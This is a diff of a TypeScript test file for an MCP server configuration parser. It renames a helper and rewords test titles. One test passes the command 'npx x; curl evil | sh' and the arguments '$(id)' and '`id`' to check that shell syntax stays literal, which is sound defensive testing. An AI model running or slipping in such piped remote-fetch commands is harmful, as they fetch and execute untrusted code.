@@ -3,7 +3,7 @@ import { expect, test } from 'vitest'
 import { settingsOf } from '../upstreams/config.ts'
 import { parseConfig } from './read.ts'
 import { targetOf } from './target.ts'
-import { upstreamOf } from './upstream.ts'
+import { upstreamConfig } from './upstream.ts'
 
 function target(server: unknown) {
   const { config } = parseConfig(JSON.stringify({ mcpServers: { a: server } }), { file: 'unfold.json', environment: {} })
@@ -18,7 +18,7 @@ test('a command runs in the folder of the configuration unless it names another,
   expect(target({ command: 'x', cwd: '/srv' })).toMatchObject({ cwd: resolve('/srv') })
 })
 
-test('what looks like a shell’s work stays one word', () => {
+test('shell syntax stays a single argument', () => {
   expect(target({ command: 'npx x; curl evil | sh', args: ['$(id)', '`id`'] })).toMatchObject({
     command: 'npx x; curl evil | sh',
     args: ['$(id)', '`id`'],
@@ -35,12 +35,16 @@ test.each([
   expect(target({ url: 'http://x/', ...(type !== undefined && { type }) })).toMatchObject({ transport, headers: {} })
 })
 
-test('what the configuration says of a server is what its upstream is made with, defaults included', () => {
+test('the settings of a server are those of its upstream, including defaults', () => {
   const text = JSON.stringify({
     mcpServers: { a: { url: 'http://x/', start: 'lazy', sweepMs: 0 }, b: { command: 'x', disabled: true } },
   })
   const { a, b } = parseConfig(text, { file: 'unfold.json', environment: {} }).config.mcpServers
   if (a === undefined || b === undefined) throw new Error('no server')
-  expect(settingsOf(upstreamOf(a, '/'))).toEqual({ ...settingsOf({ target: { url: 'http://x/' } }), start: 'lazy', sweepMs: 0 })
-  expect(upstreamOf(b, '/').disabled).toBe(true)
+  expect(settingsOf(upstreamConfig(a, '/'))).toEqual({
+    ...settingsOf({ target: { url: 'http://x/' } }),
+    start: 'lazy',
+    sweepMs: 0,
+  })
+  expect(upstreamConfig(b, '/').disabled).toBe(true)
 })
